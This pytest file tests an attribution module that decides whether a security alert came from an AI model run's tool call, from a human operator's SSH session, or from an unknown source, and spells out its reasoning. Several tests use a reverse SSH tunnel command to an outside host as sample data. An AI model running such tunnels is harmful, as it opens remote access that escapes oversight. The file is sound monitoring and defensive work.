"""From signs to a conclusion: how they add up, what speaks against it, and what is missing, in words."""

from apps.attribution.case import Case
from apps.attribution.conclude import conclude
from tests.attribution.test_matchers import PARENT, call, case, kin


def matchers(made: Case) -> list[str]:
    return [str(part["matcher"]) for part in conclude(made).basis]


def test_strongest_signs_leave_little_doubt_and_never_none() -> None:
    made = conclude(case(kin(traceparent=PARENT, cgroup="/sentinel/rome"), calls=(call(1, "ssh -N -R"),)))
    assert (made.origin, made.call.id if made.call else None) == ("model", 1)
    assert made.strength == 99
    assert made.delta_ms == 1_000.0


def test_time_alone_shows_a_candidate_and_names_nobody() -> None:
    made = conclude(case(calls=(call(1),)))
    assert (made.origin, made.strength) == ("unknown", 45)
    assert made.call is not None


def test_time_and_membership_together_are_enough() -> None:
    assert conclude(case(kin(cgroup="/sentinel/rome/x"), calls=(call(1),))).origin == "model"


def test_membership_without_a_call_names_nobody() -> None:
    made = conclude(case(kin(cgroup="/sentinel/rome/x")))
    assert (made.origin, made.strength, made.call) == ("unknown", 0, None)
    assert [part["matcher"] for part in made.basis] == ["membership"]


def test_call_that_its_process_names_beats_the_one_whose_text_fits() -> None:
    calls = (call(1, "something else"), call(2, "ssh -N -R 9001:127.0.0.1:8000 eve@198.51.100.7"))
    made = conclude(case(kin(traceparent=PARENT), calls=calls))
    assert made.call is not None
    assert made.call.id == 1
    assert "command" not in [part["matcher"] for part in made.basis]


def test_session_wins_over_mere_time() -> None:
    made = conclude(case(kin(10), kin(8, ("sshd",)), calls=(call(1),)))
    assert (made.origin, made.strength) == ("operator", 60)
    assert {(part["matcher"], part["against"]) for part in made.basis} == {("time", False), ("session", True)}


def test_session_loses_against_the_text() -> None:
    text = "ssh -N -R 9001:127.0.0.1:8000 eve@198.51.100.7"
    made = conclude(case(kin(10), kin(8, ("sshd",)), calls=(call(1, text),)))
    assert made.origin == "model"
    assert any(part["against"] for part in made.basis)


def test_what_is_missing_is_said() -> None:
    nothing = conclude(case())
    assert (nothing.origin, nothing.basis) == ("unknown", [])
    assert nothing.missing == [
        "The alert names no process that was seen, so neither ancestors nor environment could be asked.",
        "No tool call of rome was open at that time, or none has arrived yet.",
        "How far the clocks are off was not measured.",
    ]
    unheard = conclude(case(kin(traceparent=PARENT), clock_error_ms=3.0))
    assert "no such tool call has arrived" in unheard.missing[0]
    silent = conclude(case(kin(traceparent=PARENT), calls=(call(1),), clock_error_ms=3.0))
    assert silent.missing == ["The trace does not contain what this tool call was asked to do."]


def test_a_marker_of_an_unknown_run_is_said() -> None:
    made = conclude(case(kin(marker="tokyo-4"), calls=(call(1, "ssh"),), run_id=None, clock_error_ms=3.0))
    assert (made.origin, made.call) == ("unknown", None)
    assert "carries the marker of 'tokyo-4', a run that is not known here" in made.missing[0]


def test_text_that_is_much_alike_shows_a_candidate_and_names_nobody() -> None:
    """An earlier call opened a tunnel as well, to somewhere else: most of its words are the same."""
    text = "ssh -N -R 9002:127.0.0.1:8000 eve@198.51.100.7 -v"
    made = conclude(case(kin(), calls=(call(1, text, start=10.0, end=11.0),), at=900.0, run_id=None))
    assert made.origin == "unknown"
    assert [part["matcher"] for part in made.basis] == ["command"]


def test_text_that_is_only_written_down_loses_against_a_session() -> None:
    noted = call(1, "echo 'ssh -N -R 9001:127.0.0.1:8000 eve@198.51.100.7' > notes.txt")
    assert conclude(case(kin(10), kin(8, ("sshd",)), calls=(noted,))).origin == "operator"


def test_cgroup_of_the_run_is_no_sign_against_who_signed_in() -> None:
    """Somebody goes into the run's control group, as into a container, while a tool call is open."""
    inside = kin(10, cgroup="/sentinel/rome")
    assert conclude(case(inside, kin(8, ("sshd",)), calls=(call(1),))).origin == "operator"
